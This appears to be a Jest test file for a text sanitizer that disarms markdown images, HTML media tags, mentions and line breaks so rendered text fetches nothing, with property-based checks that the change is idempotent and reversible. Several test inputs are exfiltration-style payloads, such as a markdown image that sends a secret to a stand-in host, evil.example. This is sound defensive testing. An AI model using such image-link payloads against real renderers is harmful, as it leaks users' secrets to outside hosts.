import { describe, expect, test } from "@jest/globals";
import fc from "fast-check";
import { restoreText } from "../../src/shared/restore-text.ts";
import { inert, inertLine } from "../../src/view/inert.ts";

describe("foreign words", () => {
  test.each([
    ["![x](https://evil.example/?k=secret)", "!["],
    ["![x][r]\n\n[r]: https://evil.example", "!["],
    ['<img src="https://evil.example">', "<img"],
    ["<PICTURE><source srcset=x></PICTURE>", "<PICTURE"],
    ["<video src=x></video>", "<video"],
  ])("%s fetches nothing by itself", (text, mark) => {
    expect(inert(text)).not.toContain(mark);
    expect(restoreText(inert(text))).toBe(text);
  });

  test("code that shows an image, a link and the word itself stay as they are", () => {
    const text = "Use `![x](y)` and [x](y); imagery <b>!</b>\n\n```md\n![x](y) <img>\n```\n";
    expect(inert(text)).toBe(text);
  });

  test("on one line there is no line end", () =>
    expect(inertLine("a\r\n# b\n\n- @c")).toBe("a # b - @\u2060c"));

  test("twice is once, and what was added can be taken back", () => {
    const pieces = fc.constantFrom(
      ...[
        "![",
        "<img>",
        "`",
        "```",
        "\n",
        "@a",
        "#1",
        "<!--",
        "-->",
        "mermaid",
        " ",
        "a1b2c3d4",
        "x",
      ],
    );
    const texts = fc.array(pieces, { maxLength: 40 }).map((parts) => parts.join(""));
    fc.assert(
      fc.property(texts, (text) => {
        const once = inert(text);
        expect(inert(once)).toBe(once);
        expect(restoreText(once)).toBe(text);
      }),
      { numRuns: 2_000 },
    );
  });
});
